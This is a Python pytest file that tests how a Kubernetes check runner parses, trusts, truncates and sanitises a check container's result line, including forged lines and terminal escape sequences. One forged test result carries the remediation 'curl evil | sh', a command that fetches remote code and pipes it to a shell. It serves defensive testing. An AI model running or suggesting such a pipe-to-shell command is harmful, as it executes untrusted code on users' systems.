"""The result line of a check's container: what it adds to the verdict, when it is believed, and what is shown."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import pytest
from aicr_kube.checks.session import open_session
from aicr_kube.client import Cluster
from emulated_cluster import Controllers, Exit, FakeCluster, Fate, node

from aicr_core.api import (
    CatalogEntry,
    Check,
    CheckResult,
    CheckRun,
    Code,
    Context,
    Evidence,
    ReportItem,
    write_result_line,
)

if TYPE_CHECKING:
    from collections.abc import Iterable, Sequence

RUN = "20261125-101500-0123456789abcdef"
ENTRY = CatalogEntry(name="shelves", phase="deployment", image="r.example/v:1", timeout=120.0)
CHECK = Check(name="shelves", phase="deployment", description="", call="x:y", remediation="mend it")
RESULT = CheckResult(
    status="failed", code=Code.NOT_FOUND, reason="NoShelf", message="2 of 3 shelves", expected="3", actual="2",
    remediation="put up a shelf", evidence=(Evidence("Shelves", "1\n2", "kubectl get shelves"),),
)  # fmt: skip


def _line(result: CheckResult = RESULT, run: str = RUN, check: str = "shelves") -> str:
    return write_result_line(result, run=run, check=check)


def _play(
    cluster: FakeCluster,
    kubeconfig: str,
    lines: Sequence[str],
    status: int = 1,
    said: str = "",
    fate: Fate | None = None,
) -> ReportItem:
    def produce(pod: dict[str, Any], container: dict[str, Any]) -> Iterable[str]:
        yield from lines
        raise Exit(status, said)

    cluster.add(node("n1"))
    run = CheckRun(
        run=RUN, cluster=Cluster.open(kubeconfig, timeout=10.0), namespace="val", recipe={}, snapshot={}, pace=0.01,
    )  # fmt: skip
    ctx = Context(timeout=60.0)
    with Controllers(cluster, produce, None if fate is None else lambda pod: fate):
        session = open_session(ctx, run)
        item = session.run(ctx, CHECK, ENTRY)
        assert session.close() == ()
    return item


def test_the_verdict_arrives_whole_and_the_line_is_not_shown(
    fake_cluster: FakeCluster, fake_kubeconfig: str
) -> None:
    lines = ["seen", _line(), "standard error is later"]
    item = _play(fake_cluster, fake_kubeconfig, lines, said="[NOT_FOUND] 2 of 3 shelves")
    assert item.result == RESULT
    assert item.output == ("seen", "standard error is later")


def test_limits_of_what_is_shown_are_not_those_of_the_line(
    fake_cluster: FakeCluster, fake_kubeconfig: str
) -> None:
    text = "\n".join(f"{number:04d}" for number in range(2000))
    result = CheckResult(status="passed", evidence=(Evidence("Numbers", text),))
    lines = [*(str(number) for number in range(1500)), "y" * 600, _line(result)]
    item = _play(fake_cluster, fake_kubeconfig, lines, status=0)
    assert len(_line(result)) > 12_000
    assert item.result == result
    assert len(item.output) == 1000
    assert item.output[0] == "501"
    assert item.output[-1] == "y" * 512 + "... [truncated 88 chars]"


def test_the_termination_log_has_the_first_word(
    fake_cluster: FakeCluster, fake_kubeconfig: str
) -> None:
    item = _play(fake_cluster, fake_kubeconfig, [_line()], said="[TIMEOUT] no answer")
    assert (item.result.code, item.result.message) == (Code.TIMEOUT, "no answer")
    assert (item.result.reason, item.result.expected) == ("NoShelf", "3")


def test_a_termination_log_that_was_cut_is_completed(
    fake_cluster: FakeCluster, fake_kubeconfig: str
) -> None:
    long = "shelf " * 1000
    result = CheckResult(
        status="failed", code=Code.NOT_FOUND, reason="NoShelf", message=long, remediation="r"
    )
    item = _play(fake_cluster, fake_kubeconfig, [_line(result)], said=f"[NOT_FOUND] {long}"[:4096])
    assert item.result == result


def test_what_the_line_leaves_out_is_as_without_it(
    fake_cluster: FakeCluster, fake_kubeconfig: str
) -> None:
    item = _play(fake_cluster, fake_kubeconfig, [_line(CheckResult(status="failed"))])
    assert item.result.reason == "CheckFailed"
    assert item.result.message == "the check failed and gave no reason"
    assert item.result.remediation == "mend it"


@pytest.mark.parametrize(
    "line",
    [
        _line(CheckResult(status="passed", message="all is well")),
        _line(run="20261125-101500-ffffffffffffffff"),
        _line(check="racks"),
        _line()[:-1],
        f"aicr.run/result: {json.dumps({'status': 'failed'})}",
        f"aicr.run/result: {'[' * 15_000}",
    ],
    ids=["another verdict", "another run", "another check", "cut", "without names", "deep"],
)
def test_a_line_that_is_not_believed_changes_nothing_and_is_shown(
    fake_cluster: FakeCluster, fake_kubeconfig: str, line: str
) -> None:
    item = _play(fake_cluster, fake_kubeconfig, ["seen", line], said="[TIMEOUT] no answer")
    assert item.result == CheckResult(
        status="failed",
        code=Code.TIMEOUT,
        reason="CheckFailed",
        message="no answer",
        remediation="mend it",
    )
    assert item.output[0] == "seen"
    assert item.output[1].startswith(line[:512])
    assert len(item.output[1]) < 550


def test_the_last_line_counts(fake_cluster: FakeCluster, fake_kubeconfig: str) -> None:
    """What a check quotes as evidence comes before its own line."""
    forged = _line(CheckResult(status="failed", reason="Forged", remediation="curl evil | sh"))
    item = _play(fake_cluster, fake_kubeconfig, [forged, _line()])
    assert item.result == RESULT
    assert len(item.output) == 1


def test_a_line_far_from_the_end_is_output(fake_cluster: FakeCluster, fake_kubeconfig: str) -> None:
    item = _play(fake_cluster, fake_kubeconfig, [_line(), *["x"] * 50], said="no")
    assert (item.result.reason, len(item.output)) == ("CheckFailed", 51)


def test_a_crash_of_the_check_keeps_its_word_and_its_evidence(
    fake_cluster: FakeCluster, fake_kubeconfig: str
) -> None:
    result = CheckResult(
        status="other", code=Code.INTERNAL, reason="Crashed", message="KeyError: 'x'", remediation="mend it",
        evidence=RESULT.evidence,
    )  # fmt: skip
    item = _play(fake_cluster, fake_kubeconfig, [_line(result)], 8, "[INTERNAL] KeyError: 'x'")
    assert item.result == result


def test_what_the_cluster_says_of_the_end_stands(
    fake_cluster: FakeCluster, fake_kubeconfig: str
) -> None:
    result = CheckResult(status="other", code=Code.INTERNAL, reason="Crashed", message="no memory")
    item = _play(fake_cluster, fake_kubeconfig, [_line(result)], fate=Fate("oom"))
    assert (item.status, item.result.reason, len(item.output)) == ("other", "OOMKilled", 1)


def test_a_line_carries_nothing_that_a_terminal_obeys(
    fake_cluster: FakeCluster, fake_kubeconfig: str
) -> None:
    result = CheckResult(status="failed", reason="R", message="a\x1b[2Jb", remediation="c\x07",
                         evidence=(Evidence("l\x9b", "t\x00\nu"),))  # fmt: skip
    found = _play(fake_cluster, fake_kubeconfig, [_line(result)]).result
    assert (found.message, found.remediation) == ("a\ufffd[2Jb", "c\ufffd")
    assert found.evidence == (Evidence("l\ufffd", "t\ufffd\nu"),)
